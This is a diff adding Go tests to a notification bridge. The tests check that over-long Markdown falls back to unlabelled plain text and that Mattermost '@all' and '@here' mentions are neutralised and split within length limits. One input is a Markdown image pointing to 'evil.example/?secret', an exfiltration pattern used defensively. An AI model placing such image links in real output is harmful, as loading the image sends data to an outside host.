@@ -123,6 +123,49 @@ func TestNoRemoteContent(t *testing.T) {
 	}
 }
 
+// A text whose marks leave no room is sent as a plain one. Nobody is told that it is Markdown: it may have an image.
+func TestPlainTextIsNotCalledMarkdown(t *testing.T) {
+	text := `\!\[x](https://evil.example/?secret)` + "\n\n" + strings.Repeat("[a](https://x.example/"+strings.Repeat("y", 2000)+")\n\n", 30)
+	h := newHook(t)
+	c, err := NewHTTP("gotify", HTTPConfig{URL: h.URL})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := c.Send(t.Context(), Notification{ID: "1", Text: text, Format: FormatMarkdown}); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(h.bodies[0], "![x](https://evil.example/?secret)") || strings.Contains(h.bodies[0], "markdown") {
+		t.Errorf("sent %.300s", h.bodies[0])
+	}
+	b, err := NewBridge("C1", "", "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if p, err := b.Prepare(Notification{Text: "**bold**", Format: FormatMarkdown}); err != nil || p.Markup || p.Parts[0] != "bold" {
+		t.Errorf("a network without markup gets %+v, %v", p, err)
+	}
+}
+
+// Mattermost gets no mention of all members, in a draft either, and no message that is too long with the marks of its URLs.
+func TestMattermost(t *testing.T) {
+	b, err := NewBridge("C1", "", "mattermost")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if d := b.Draft("s", "c", "C1", Draft{Text: "@all **@here**"}); d.Text != "@\u200ball **@\u200bhere**" {
+		t.Errorf("the draft %q", d.Text)
+	}
+	p, err := b.Prepare(Notification{Text: strings.Repeat("@all http://x.example ", 2000)})
+	if err != nil || len(p.Parts) < 3 {
+		t.Fatal(len(p.Parts), err)
+	}
+	for _, part := range p.Parts {
+		if n := utf8.RuneCountInString(part); n > shapes["mattermost"].limit || strings.Contains(part, "@all") {
+			t.Errorf("%d characters: %.100q", n, part)
+		}
+	}
+}
+
 // checkInert parses a message as its service would, and looks for remote content.
 func checkInert(t *testing.T, preset, source, sent string) {
 	t.Helper()
